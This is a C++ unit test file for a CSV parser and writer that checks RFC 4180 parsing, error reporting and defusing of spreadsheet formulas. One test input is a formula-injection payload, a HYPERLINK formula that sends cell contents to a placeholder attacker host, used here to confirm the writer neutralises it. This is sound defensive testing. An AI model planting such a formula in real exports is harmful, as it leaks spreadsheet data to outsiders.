// tools/cli/csv.h: the reader refuses text after a closing quote, and every
// cell creg writes is defused against spreadsheet formulas.
#include "tools/cli/csv.h"

#include <gtest/gtest.h>

namespace creg::cli {
namespace {

std::vector<std::string> FieldsOf(std::string_view text) {
  StatusOr<std::vector<CsvRecord>> records = ParseCsv(text);
  EXPECT_TRUE(records.ok()) << records.status().ToString();
  if (!records.ok() || records->size() != 1) return {};
  return (*records)[0].fields;
}

// The reader's InvalidArgument message for `text` ("" and a failure when
// it is read).
std::string RefusalOf(std::string_view text) {
  StatusOr<std::vector<CsvRecord>> records = ParseCsv(text);
  EXPECT_FALSE(records.ok()) << "read: " << text;
  EXPECT_EQ(records.status().code(), StatusCode::kInvalidArgument);
  return records.status().message();
}

bool Contains(const std::string& text, std::string_view part) {
  return text.find(part) != std::string::npos;
}

TEST(CsvReaderTest, ReadsRfc4180Fields) {
  EXPECT_EQ(FieldsOf("a,\"b,c\",\"say \"\"hi\"\"\",\r\n"),
            (std::vector<std::string>{"a", "b,c", "say \"hi\"", ""}));
  EXPECT_EQ(FieldsOf("\"two\nlines\",x"), (std::vector<std::string>{"two\nlines", "x"}));
  EXPECT_EQ(FieldsOf("\"\",\"end\""), (std::vector<std::string>{"", "end"}));
  EXPECT_EQ(FieldsOf("\"crlf\"\r\n"), (std::vector<std::string>{"crlf"}));
  // A quote inside an unquoted field is an ordinary character.
  EXPECT_EQ(FieldsOf("5\" pipe,x"), (std::vector<std::string>{"5\" pipe", "x"}));
}

TEST(CsvReaderTest, RefusesTextAfterAClosingQuoteNamingLineAndColumn) {
  std::string why = RefusalOf("a,b\n\"ab\"cd,e\n");
  EXPECT_TRUE(Contains(why, "line 2, column 5")) << why;
  EXPECT_TRUE(Contains(why, "closing quote")) << why;

  // Columns count characters, and lines inside a quoted field count too.
  why = RefusalOf("x,\"é\nü\" y\n");
  EXPECT_TRUE(Contains(why, "line 2, column 3")) << why;

  for (std::string_view bad : {"\"ab\" ", "\"a\"b,c", "x,\"a\"\rb"}) {
    SCOPED_TRACE(std::string(bad));
    EXPECT_TRUE(Contains(RefusalOf(bad), "closing quote"));
  }
}

TEST(CsvReaderTest, RecordsKnowTheirLineAndTextAndBlankLinesAreSkipped) {
  StatusOr<std::vector<CsvRecord>> r = ParseCsv("a,b\n\n\"x\ny\",z\r\n\r\n\"\"\nlast");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  ASSERT_EQ(r->size(), 4u);
  EXPECT_EQ((*r)[0].line, 1u);
  EXPECT_EQ((*r)[0].raw, "a,b");
  // A record that spans lines starts where its first field does; its raw
  // text keeps the inner line break and drops the final CRLF.
  EXPECT_EQ((*r)[1].line, 3u);
  EXPECT_EQ((*r)[1].fields, (std::vector<std::string>{"x\ny", "z"}));
  EXPECT_EQ((*r)[1].raw, "\"x\ny\",z");
  // A quoted empty field is a record, not a blank line.
  EXPECT_EQ((*r)[2].line, 6u);
  EXPECT_EQ((*r)[2].fields, (std::vector<std::string>{""}));
  EXPECT_EQ((*r)[2].raw, "\"\"");
  // No line break at the end of the file.
  EXPECT_EQ((*r)[3].line, 7u);
  EXPECT_EQ((*r)[3].fields, (std::vector<std::string>{"last"}));

  EXPECT_TRUE(ParseCsv("").value().empty());
  EXPECT_TRUE(ParseCsv("\n\r\n\n").value().empty());
}

TEST(CsvReaderTest, AByteOrderMarkIsIgnored) {
  StatusOr<std::vector<CsvRecord>> r = ParseCsv("\xEF\xBB\xBFto_account,batch\nx,1\n");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  ASSERT_EQ(r->size(), 2u);
  EXPECT_EQ((*r)[0].fields, (std::vector<std::string>{"to_account", "batch"}));
  // Only at the start of the file.
  EXPECT_EQ(FieldsOf("a\xEF\xBB\xBF"), (std::vector<std::string>{"a\xEF\xBB\xBF"}));
}

TEST(CsvReaderTest, AQuoteNeverClosedNamesTheLineItOpensOn) {
  std::string why = RefusalOf("to_account,batch\n\"organiser,1\nx,2\n");
  EXPECT_TRUE(Contains(why, "line 2: a quoted field is never closed")) << why;
  EXPECT_TRUE(Contains(RefusalOf("\""), "line 1: a quoted field is never closed"));
  EXPECT_TRUE(Contains(RefusalOf("a,\"b\"\""), "never closed"));
}

TEST(CsvWriterTest, FormulaCellsGetAQuoteAndAreQuoted) {
  EXPECT_EQ(CsvField("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
  EXPECT_EQ(CsvField("+1+1"), "\"'+1+1\"");
  EXPECT_EQ(CsvField("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(CsvField("@SUM(A1:A2)"), "\"'@SUM(A1:A2)\"");
  EXPECT_EQ(CsvField("\tx"), "\"'\tx\"");
  EXPECT_EQ(CsvField("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(CsvField("-"), "\"'-\"");
  EXPECT_EQ(CsvField("-1e5"), "\"'-1e5\"");
  EXPECT_EQ(CsvField("+5"), "\"'+5\"");
}

TEST(CsvWriterTest, PlainNumbersAndOrdinaryTextStayAsTheyAre) {
  for (std::string_view same : {"-12", "-0.5", "120", "0", "ACME Ltd", "1:1-500", "VR-2025-1",
                                "a=b", "Société Générale", ""}) {
    EXPECT_EQ(CsvField(same), same);
    EXPECT_FALSE(CsvLooksLikeFormula(same)) << same;
  }
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  // Quoted so that a spreadsheet splitting on ';' or tabs keeps one cell.
  EXPECT_EQ(CsvField("x;=1+2"), "\"x;=1+2\"");
  EXPECT_EQ(CsvField("x\t=1+2"), "\"x\t=1+2\"");
}

TEST(CsvWriterTest, WhatIsWrittenReadsBackWithTheAddedQuote) {
  std::vector<std::string> cells = {"=1+2", "-3", "a \"b\"", "x;y", "@z"};
  StatusOr<std::vector<CsvRecord>> back = ParseCsv(CsvLine(cells));
  ASSERT_TRUE(back.ok()) << back.status().ToString();
  ASSERT_EQ(back->size(), 1u);
  EXPECT_EQ((*back)[0].fields, (std::vector<std::string>{"'=1+2", "-3", "a \"b\"", "x;y", "'@z"}));
}

}  // namespace
}  // namespace creg::cli
